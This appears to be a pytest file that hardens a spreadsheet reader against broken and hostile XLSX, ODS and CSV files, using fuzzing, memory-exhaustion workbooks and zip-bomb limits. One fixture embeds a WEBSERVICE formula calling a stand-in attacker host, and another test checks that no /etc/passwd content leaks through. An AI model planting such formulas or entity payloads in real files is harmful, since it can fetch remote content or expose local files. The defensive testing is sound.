"""Broken and hostile sheets: whatever a file holds, the reader returns a sheet or raises its own
SheetError of one line, never anything else (random bytes, mutations of real files), quickly
and in little memory. Files built to exhaust memory (a far cell, ODS repeats, a zip bomb, XML
entities) are read in a child process under an address-space limit. The command line over
such files: tests/e2e/test_hostile_input.py."""

from __future__ import annotations

import random
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest
from hostile_files import (
    EDITS,
    FUZZ,
    HOSTILE_WORKBOOKS,
    REAL_TEXT_SHEETS,
    REAL_WORKBOOKS,
    SHEET_HEAD,
    SHEET_SUFFIXES,
    SHEET_TAIL,
    inline,
    mutate,
    no_hang,
    ods,
    read_bounded,
    workbook_with_part,
    write_csv,
    write_temp,
    xlsx,
)
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook

from pipeline.sheets import OUTPUT_COLUMNS, SheetError, check_output_fits, read_sheet
from pipeline.sheets.extent import _MAX_UNZIPPED_BYTES

__all__ = ["no_hang"]  # an autouse fixture: each test here fails rather than hang


def read_or_refuse(path: Path) -> str:
    """``read_sheet`` either reads or raises SheetError with one line; anything else fails."""
    try:
        sheet = read_sheet(path)
    except SheetError as exc:
        message = str(exc)
        assert message and "\n" not in message and "Traceback" not in message
        return "refused"
    assert all(isinstance(v, str) for row in sheet.rows for v in row.values.values())
    return "read"


# --- fuzzing -------------------------------------------------------------------------------------


@FUZZ
@given(data=st.binary(max_size=3000), suffix=st.sampled_from(SHEET_SUFFIXES))
def test_random_bytes_are_read_or_refused_with_a_sheet_error(data: bytes, suffix: str) -> None:
    read_or_refuse(write_temp(data, suffix))


@FUZZ
@given(source=st.sampled_from(REAL_TEXT_SHEETS), edits=EDITS)
def test_mutated_real_csv_files_are_read_or_refused(source: Path, edits: Any) -> None:
    read_or_refuse(write_temp(mutate(source.read_bytes(), edits), source.suffix))


@FUZZ
@given(source=st.sampled_from(REAL_WORKBOOKS), edits=EDITS, pick=st.integers(0, 100))
def test_mutated_parts_of_real_workbooks_are_read_or_refused(
    source: Path, edits: Any, pick: int
) -> None:
    with zipfile.ZipFile(source) as archive:
        names = [info.filename for info in archive.infolist()]
        part = names[pick % len(names)]
        content = archive.read(part)
    read_or_refuse(
        write_temp(workbook_with_part(source, part, mutate(content, edits)), source.suffix)
    )


@FUZZ
@given(source=st.sampled_from(REAL_WORKBOOKS), edits=EDITS)
def test_workbooks_damaged_byte_by_byte_are_read_or_refused(source: Path, edits: Any) -> None:
    read_or_refuse(write_temp(mutate(source.read_bytes(), edits), source.suffix))


# --- files built to exhaust memory: read in a child process under a memory limit ---------------


@pytest.mark.parametrize("case", sorted(HOSTILE_WORKBOOKS))
def test_workbooks_built_to_exhaust_memory_are_refused_quickly(case: str, tmp_path: Path) -> None:
    suffix, data = HOSTILE_WORKBOOKS[case]()
    path = tmp_path / f"hostile{suffix}"
    path.write_bytes(data)
    result = read_bounded(path, limit_mb=1024)
    assert result["outcome"].startswith("refused: "), result
    assert "root:" not in result["outcome"]  # nothing of /etc/passwd came through
    assert result["seconds"] < 5, result
    assert result["maxrss_mb"] < 300, result


@pytest.mark.parametrize(
    "suffix, body",
    [
        (".ods", '<table:table-cell a="' * 50_000),
        (".ods", "<table:table-row a='" * 50_000),
        (".xlsx", SHEET_HEAD + '<c t="s" r="' * 100_000),
        (".xlsx", SHEET_HEAD + "<x:c " * 200_000),
        (".xlsx", SHEET_HEAD + "<a:" + "b" * 2_000_000),
    ],
)
def test_tags_left_open_by_the_thousand_are_scanned_in_linear_time(
    suffix: str, body: str, tmp_path: Path
) -> None:
    path = tmp_path / f"open{suffix}"
    path.write_bytes(ods(body) if suffix == ".ods" else xlsx(body))
    started = time.monotonic()
    read_or_refuse(path)
    assert time.monotonic() - started < 3


def test_a_real_sheet_of_a_hundred_thousand_cells_is_not_refused(tmp_path: Path) -> None:
    rows = "".join(
        f'<row r="{r}">' + "".join(inline(f"{col}{r}", f"v{r}") for col in "ABCDEFGHIJ") + "</row>"
        for r in range(2, 10_002)
    )
    header = '<row r="1">' + "".join(inline(f"{c}1", f"h{c}") for c in "ABCDEFGHIJ") + "</row>"
    path = tmp_path / "big.xlsx"
    path.write_bytes(xlsx(SHEET_HEAD + header + rows + SHEET_TAIL))
    result = read_bounded(path)
    assert result["outcome"] == "read 10000 rows, 10 columns", result


# --- what an output can hold, formulas, control characters, the unzipped size -----------------


def test_what_cannot_fit_an_xlsx_output_is_named_before_writing(tmp_path: Path) -> None:
    """The check a run makes before sending: the cell, and the way out."""
    sheet = tmp_path / "big.csv"
    write_csv(sheet, ["email", "notes"], [["a@example.com", "n" * 32_767], ["b@x.y", "n" * 32_768]])
    read = read_sheet(sheet)
    check_output_fits(read, tmp_path / "out.csv")  # CSV holds anything
    with pytest.raises(SheetError, match=r"row 3 'notes' has 32,768 characters.*-o out\.csv"):
        check_output_fits(read, tmp_path / "out.xlsx")
    wide = tmp_path / "wide.csv"
    # One column past the 16,384 an XLSX sheet holds, counting the output's own columns.
    inputs = 16_385 - len(OUTPUT_COLUMNS)
    write_csv(wide, [f"c{i}" for i in range(inputs)], [["x"] * inputs])
    with pytest.raises(SheetError, match="16,385 columns do not fit"):
        check_output_fits(read_sheet(wide), tmp_path / "out.xlsx")


def test_formulas_in_a_workbook_are_read_as_their_cached_text_never_evaluated(
    tmp_path: Path,
) -> None:
    sheet = tmp_path / "f.xlsx"
    sheet.write_bytes(
        xlsx(
            SHEET_HEAD + f'<row r="1">{inline("A1", "name")}</row>'
            '<row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://evil.example/")</f>'
            "<v>cached text</v></c></row>" + SHEET_TAIL
        )
    )
    [row] = read_sheet(sheet).rows
    assert row.values == {"name": "cached text"}


CONTROL_MESSAGE = (
    "row 2, column A (name): the cell holds the control character U+0001, which is not text; "
    "delete it from the cell and retry"
)


def test_a_control_character_anywhere_in_a_csv_is_refused_the_same_way(tmp_path: Path) -> None:
    sheet = tmp_path / "leads.csv"
    # Past the first 64 KiB, where the check for a binary file does not look.
    write_csv(
        sheet,
        ["name", "script"],
        [[f"Lead {n}", "Hello."] for n in range(5000)] + [["Nul\x01Name\x00X", "Hello."]],
    )
    with pytest.raises(SheetError) as refused:
        read_sheet(sheet)
    assert str(refused.value) == (
        f"{sheet}: {CONTROL_MESSAGE.replace('row 2, column A', 'row 5002, column 1')}"
    )


def test_a_genuine_sheet_of_100000_rows_fits_under_the_workbook_ceiling(tmp_path: Path) -> None:
    """1,000 rows written by openpyxl, scripts of some 850 characters (a minute of speech),
    measured and multiplied: 100,000 of them must read, not be taken for a zip bomb."""
    rng = random.Random(21)
    words = ["launch", "product", "team", "report", "customer", "growth", "faster", "today"]
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Leads")
    sheet.append(["email", "first_name", "company", "market", "script", "avatar", "voice"])
    for n in range(1000):
        script = " ".join(rng.choice(words) for _ in range(rng.randint(60, 180))) + "."
        sheet.append([f"lead{n}@example.com", f"First{n}", f"Company {n}", "US", script, "a", "v"])
    path = tmp_path / "leads.xlsx"
    book.save(path)
    with zipfile.ZipFile(path) as archive:
        unpacked = sum(info.file_size for info in archive.infolist())
    assert len(read_sheet(path).rows) == 1000
    assert unpacked * 100 * 1.5 < _MAX_UNZIPPED_BYTES, unpacked  # with half again to spare
